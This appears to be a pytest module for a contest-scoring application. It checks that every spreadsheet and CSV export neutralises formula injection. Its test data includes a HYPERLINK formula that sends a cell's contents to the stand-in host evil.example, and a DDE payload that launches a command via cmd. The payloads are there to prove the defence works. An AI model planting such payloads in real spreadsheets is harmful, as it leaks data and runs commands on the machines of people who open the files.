"""No spreadsheet Leitai writes can run what people typed (issue 14, item 13), on both
stores.  A contest whose units, title, theme, contact, organizations, secretaries,
judges, award names, adjustment reasons and objection are formula-like
(``=HYPERLINK("http://evil.example/?"&A1,"click")``, ``@SUM(1+1)*cmd|' /C calc'!A0``,
``=1+1``, ``+1``, ``-1+1``, ``@SUM(1)``, ``\\t=1``, ``\\r=1``) is closed and published;
then every spreadsheet and CSV Leitai writes is made - notice.xlsx (anonymously) and
score-sheet.xlsx over HTTP and with ``leitai document``, ``leitai export results`` as
.xlsx and .csv - and:

* no cell of any .xlsx is a formula (``data_type != "f"``), each formula-like text is
  there as written, a text cell with Excel's quote prefix;
* every CSV field beginning with ``=`` ``+`` ``-`` ``@`` TAB or CR is neutralised: a
  single quote in front, the field in double quotes;
* numbers stay numbers: ranks are number cells, finals (a negative one too) are written
  as Leitai writes them, with no quote in front.

(A name cannot begin with TAB or CR in Leitai - names are trimmed, a CR refused - so
``\\t=1`` and ``\\r=1`` arrive as ``=1``; tests/unit/test_spreadsheets.py gives them to
the writers as they are.)
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from api.importing.scenario import import_scenario
from api.wiring import open_app
from domain.services.clock import FixedClock
from tests.conftest import ADMIN, ROOT
from tests.http import Client, add_account, serve, stop

QUICKSTART = ROOT / "examples" / "quickstart"
ROUND = "R-DZ-2025-06"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CMD = "@SUM(1+1)*cmd|' /C calc'!A0"
# what each place is given, and what Leitai keeps of it (names are trimmed: TAB and CR go)
GIVEN = {
    "unit": "=1+1", "title": "+1 示范县擂台比武", "theme": "-1+1", "contact": LINK,
    "DZ-01 name": "=1+1", "DZ-01 secretary": LINK, "DZ-02 name": "@SUM(1)", "DZ-02 secretary": CMD,
    "DZ-03 name": "+1", "DZ-03 secretary": "\t=1", "judge": "\r=1", "award first": LINK, "award second": "-1+1",
    "reason": CMD,
}
KEPT = {place: value.strip() for place, value in GIVEN.items()}
STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _hostile_scenario(target: Path) -> Path:
    shutil.copytree(QUICKSTART, target)
    contest = (target / "contest.toml").read_text(encoding="utf-8")
    contest = contest.replace('name = "东镇"', f"name = {_toml(GIVEN['unit'])}")
    contest = contest.replace('title = "2025 示范县村党组织书记擂台比武（示例）"',
                              f"title = {_toml(GIVEN['title'])}\ncontact = {_toml(GIVEN['contact'])}")
    contest = contest.replace('theme = "抓党建促振兴"', f"theme = {_toml(GIVEN['theme'])}", 1)
    (target / "contest.toml").write_text(contest, encoding="utf-8")
    rows = list(csv.reader((target / "organizations.csv").open(encoding="utf-8-sig")))
    for row in rows[1:]:
        if f"{row[0]} name" in GIVEN:
            row[1], row[5] = GIVEN[f"{row[0]} name"], GIVEN[f"{row[0]} secretary"]
    _write_csv(target / "organizations.csv", rows)
    judges = list(csv.reader((target / "judges.csv").open(encoding="utf-8-sig")))
    judges[1][1] = GIVEN["judge"]
    _write_csv(target / "judges.csv", judges)
    scores = list(csv.reader((target / "scores.csv").open(encoding="utf-8-sig")))
    for row in scores[1:]:
        if row[0] == ROUND and row[2] == "DZ-03":
            row[3], row[4] = "0", "0"  # with the deduction below its final is negative
    _write_csv(target / "scores.csv", scores)
    _write_csv(target / "adjustments.csv", [["round_code", "entrant_code", "points", "reason"],
                                            [ROUND, "DZ-03", "-0.5", GIVEN["reason"]]])
    rules = (target / "rules" / "town-2025.toml").read_text(encoding="utf-8")
    rules += (f'\n[[awards]]\ncode = "first"\nname = {_toml(GIVEN["award first"])}\ncount = 1\n'
              f'\n[[awards]]\ncode = "second"\nname = {_toml(GIVEN["award second"])}\ncount = 1\n')
    (target / "rules" / "town-2025.toml").write_text(rules, encoding="utf-8")
    return target


def _toml(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'


def _write_csv(path: Path, rows: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)


@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def made(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, bytes]]:
    """Every spreadsheet and CSV Leitai writes for the hostile round: file name -> bytes."""
    from tests import pg

    folder = tmp_path_factory.mktemp("formulas")
    url, drop = pg.fresh_store(request, folder)
    clock = FixedClock("2025-06-20T09:00")
    app = open_app(url, clock=clock)
    import_scenario(app, _hostile_scenario(folder / "scenario"), ADMIN)
    app.close_round(ROUND, ADMIN)
    app.publish(ROUND, ADMIN)
    app.file_appeal(ROUND, "objection", LINK, "139****0000", CMD, ADMIN, "DZ-01")
    add_account(app, "admin", "admin")
    web = serve(app)
    out: dict[str, bytes] = {}
    try:
        admin, public = Client(web, "admin"), Client(web)
        deadline = time.monotonic() + 60
        while (health := admin.get("/healthz"))["projected"] < health["events"]:
            assert time.monotonic() < deadline, health
            time.sleep(0.05)
        out["http score-sheet.xlsx"] = admin.call("GET", f"/api/rounds/{ROUND}/documents/score-sheet.xlsx").get_data()
        out["http notice.xlsx"] = public.call("GET", f"/api/rounds/{ROUND}/documents/notice.xlsx").get_data()
        out["board"] = admin.call("GET", f"/api/rounds/{ROUND}/board").get_data()
        cli = [sys.executable, "-m", "api.cli.main", "--db", url]
        for kind in ("score-sheet", "notice"):
            path = folder / f"{kind}.xlsx"
            done = subprocess.run([*cli, "document", kind, ROUND, "--out", str(path)], capture_output=True, text=True,
                                  cwd=ROOT, timeout=120)
            assert done.returncode == 0, done.stderr
            out[f"leitai document {kind}.xlsx"] = path.read_bytes()
        for name in ("results.csv", "results.xlsx"):
            path = folder / name
            done = subprocess.run([*cli, "export", "results", ROUND, str(path)], capture_output=True, text=True,
                                  cwd=ROOT, timeout=120)
            assert done.returncode == 0, done.stderr
            out[f"leitai export {name}"] = path.read_bytes()
        yield out
    finally:
        stop(web)
        app.close()
        drop()


WORKBOOKS = ["http score-sheet.xlsx", "http notice.xlsx", "leitai document score-sheet.xlsx",
             "leitai document notice.xlsx", "leitai export results.xlsx"]
# the formula-like texts each workbook shows
SHOWN = {
    "score-sheet": {KEPT["title"], KEPT["theme"], KEPT["DZ-01 name"], KEPT["DZ-02 name"], KEPT["DZ-03 name"],
                    KEPT["award first"], KEPT["award second"], f"{KEPT['unit']}擂台比武评分汇总表"},
    "notice": {KEPT["title"], KEPT["theme"], KEPT["contact"], KEPT["DZ-01 name"], KEPT["DZ-01 secretary"],
               KEPT["DZ-02 name"], KEPT["DZ-02 secretary"], KEPT["DZ-03 name"], KEPT["DZ-03 secretary"],
               KEPT["award first"], KEPT["award second"], f"{KEPT['unit']}擂台比武结果公示"},
    "results": {KEPT["theme"], KEPT["DZ-01 name"], KEPT["DZ-01 secretary"], KEPT["DZ-02 name"], KEPT["DZ-02 secretary"],
                KEPT["DZ-03 name"], KEPT["DZ-03 secretary"], KEPT["award first"], KEPT["award second"]},
}


def _kind(name: str) -> str:
    return next(kind for kind in SHOWN if kind in name)


@pytest.mark.parametrize("name", WORKBOOKS)
def test_no_cell_of_a_workbook_is_a_formula_and_every_text_is_kept(made: dict[str, bytes], name: str) -> None:
    sheet = load_workbook(io.BytesIO(made[name])).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert not formulas, f"{name}: formulas {formulas}"
    texts = {c.value for c in cells if isinstance(c.value, str)}
    missing = SHOWN[_kind(name)] - texts
    assert not missing, f"{name}: {missing} not kept as written"
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(STARTS) and not PLAIN_NUMBER.fullmatch(cell.value) \
                and cell.value != "-":
            assert cell.data_type == "s" and cell.quotePrefix, (name, cell.coordinate, cell.value)


def test_the_results_list_keeps_its_numbers(made: dict[str, bytes]) -> None:
    import orjson

    board = orjson.loads(made["board"])
    finals = {e["entrant"]: e["final"] for e in board["entries"]}
    assert finals["DZ-03"].startswith("-"), finals  # a negative final, as Leitai writes it
    sheet = load_workbook(io.BytesIO(made["leitai export results.xlsx"])).active
    rows = [row for row in sheet.iter_rows() if row[1].value in finals]
    assert [r[0].data_type for r in rows] == ["n"] * 3 and [r[0].value for r in rows] == [1, 2, 3]
    assert {r[1].value: r[4].value for r in rows} == finals
    assert not any(r[4].quotePrefix for r in rows)
    fields = list(csv.reader(io.StringIO(made["leitai export results.csv"].decode("utf-8-sig"))))
    listed = {r[1]: r for r in fields if len(r) > 4 and r[1] in finals}
    assert {code: r[4] for code, r in listed.items()} == finals  # -0.50 has no quote in front
    assert [listed[code][0] for code in ("DZ-01", "DZ-02", "DZ-03")] == ["1", "2", "3"]


def test_every_csv_field_that_begins_like_a_formula_is_neutralised(made: dict[str, bytes]) -> None:
    text = made["leitai export results.csv"].decode("utf-8-sig")
    fields = [field for row in csv.reader(io.StringIO(text)) for field in row]
    live = [f for f in fields if f.startswith(STARTS) and not PLAIN_NUMBER.fullmatch(f) and f != "-"]
    assert not live, live
    for value in SHOWN["results"]:
        assert "'" + value in fields, f"{value!r} is not in the CSV behind a quote"
        assert '"' + ("'" + value).replace('"', '""') + '"' in text, f"{value!r} is not quoted"
